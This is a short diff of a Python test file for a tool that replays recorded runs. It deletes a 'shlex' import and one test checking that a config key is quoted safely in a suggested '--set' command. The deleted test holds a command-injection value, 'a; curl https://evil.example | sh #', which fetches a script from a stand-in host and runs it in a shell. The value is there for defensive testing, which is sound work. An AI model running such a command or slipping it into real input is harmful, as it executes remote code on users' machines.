@@ -1,6 +1,5 @@
 """A recorded run, read again."""
 
-import shlex
 from dataclasses import replace
 from pathlib import Path
 
@@ -62,14 +61,6 @@ def test_every_secret_that_a_run_lacks_is_named_at_once(tmp_path: Path) -> None:
     names = [f"judge.{name}" for name in ("password", "url", *judge)]
     assert caught.value.legal == f"a value for each of {', '.join(names)}"
     assert caught.value.remedy == f"add {' '.join(f'--set {name}=VALUE' for name in names)}"
-
-
-def test_a_key_of_another_run_is_one_word_of_the_remedy(tmp_path: Path) -> None:
-    run = recorded(tmp_path / "run", replace(CALL, config={"a; curl https://evil.example | sh #": "<redacted>"}))
-
-    with pytest.raises(UsageError) as caught:
-        run.spec_to(3)
-    assert shlex.split(caught.value.remedy)[1:] == ["--set", "a; curl https://evil.example | sh #=VALUE"]
 
 
 def test_a_key_that_a_shell_would_obey_is_quoted(tmp_path: Path) -> None:
